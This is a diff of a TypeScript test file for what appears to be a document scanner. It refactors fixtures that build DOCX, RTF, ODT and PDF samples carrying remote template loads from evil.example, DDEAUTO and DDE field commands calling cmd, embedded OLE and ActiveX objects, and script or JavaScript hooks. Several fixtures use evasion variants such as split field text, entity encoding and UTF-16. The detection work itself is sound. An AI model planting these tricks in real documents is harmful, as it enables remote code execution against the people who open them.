@@ -140,17 +140,19 @@ test.each([
 });
 
 const RELS = 'word/_rels/settings.xml.rels';
+const rels = (xml: string | Buffer) => docx({ [RELS]: xml });
 const relationship = (type: string, target: string) =>
-  docx({
-    [RELS]: `<Relationship Type="http://x/${type}" Target="${target}" TargetMode="External"/>`,
-  });
+  rels(`<Relationship Type="http://x/${type}" Target="${target}" TargetMode="External"/>`);
 const document = (xml: string) => docx({ 'word/document.xml': `<w:document>${xml}</w:document>` });
 const content = (xml: string) =>
   odt('text', { 'content.xml': `<office:document>${xml}</office:document>` });
 const pdf = (text: string) => Buffer.from(`%PDF-1.7\n${text}`, 'latin1');
 const rtf = (text: string) => Buffer.from(`{\\rtf1 ${text}}`);
 const TEMPLATE = 'Type="http://x/attachedTemplate"';
-const UTF16 = `\ufeff<Relationship ${TEMPLATE} Target="http://evil.example"/>`;
+const LOADED = `<Relationship ${TEMPLATE} Target="http://evil.example"/>`;
+const instructions = (...parts: string[]) =>
+  parts.map((part) => `<w:instrText>${part}</w:instrText>`).join('');
+const WITH_DDE = Buffer.concat([DOC, Buffer.from('\x13 DDEAUTO c', 'utf16le')]);
 const objectStream = Buffer.concat([
   pdf('1 0 obj <</Type/Obj#53tm/Filter/FlateDecode>>stream\n'),
   deflateSync('1 0 <</S/JavaScript/JS(x)>>'),
@@ -174,35 +176,18 @@ test.each([
   ['loads a template', rtf('{\\field{\\*\\fldinst INCLUDEPICTURE "http://evil.example/x"}}')],
   ['asks another program', rtf("{\\field{\\*\\fldinst {\\b D}\\'44E\\u65?UTO c cmd}}")],
   ['contains an embedded object', compoundFile('WordDocument', '\u0001Ole10Native')],
-  [
-    'asks another program',
-    Buffer.concat([compoundFile('WordDocument'), Buffer.from('\x13 DDEAUTO c', 'utf16le')]),
-  ],
+  ['asks another program', WITH_DDE],
   ['contains an embedded object', docx({ 'word/embeddings/oleObject1.bin': 'x' })],
   ['contains an embedded object', docx({ 'word/activeX/activeX1.bin': 'x' })],
   ['contains an embedded object', document('<w:altChunk r:id="rId1"/>')],
   ['loads a template', relationship('attachedTemplate', 'https://evil.example/t.dotm')],
   ['loads a template', relationship('attachedTemplate', 'file:///\\\\evil.example\\t.dotm')],
   ['loads a template', relationship('image', '//evil.example/x.png')],
-  [
-    'loads a template',
-    docx({ [RELS]: `<Relationship ${TEMPLATE} Target = 'https://evil.example/t' />` }),
-  ],
-  [
-    'loads a template',
-    docx({ [RELS]: `<a:Relationship ${TEMPLATE} Target="&#104;ttps://evil.example/"/>` }),
-  ],
-  [
-    'loads a template',
-    docx({
-      'word/_rels/footer9.xml.rels': `<Relationship ${TEMPLATE} Target="http://evil.example"/>`,
-    }),
-  ],
-  ['loads a template', docx({ [RELS]: Buffer.from(UTF16, 'utf16le') })],
-  [
-    'asks another program',
-    document('<w:instrText>DD</w:instrText><w:instrText>EAUTO c</w:instrText>'),
-  ],
+  ['loads a template', rels(`<Relationship ${TEMPLATE} Target = 'https://evil.example/t' />`)],
+  ['loads a template', rels(`<a:Relationship ${TEMPLATE} Target="&#104;ttps://evil.example/"/>`)],
+  ['loads a template', docx({ 'word/_rels/footer9.xml.rels': LOADED })],
+  ['loads a template', rels(Buffer.from(`\ufeff${LOADED}`, 'utf16le'))],
+  ['asks another program', document(instructions('DD', 'EAUTO c'))],
   ['asks another program', document('<w:fldSimple w:instr="DDE c cmd"/>')],
   ['contains a script', content('<script:event-listener xlink:href="x"/>')],
   ['contains an embedded object', content('<draw:object-ole/>')],
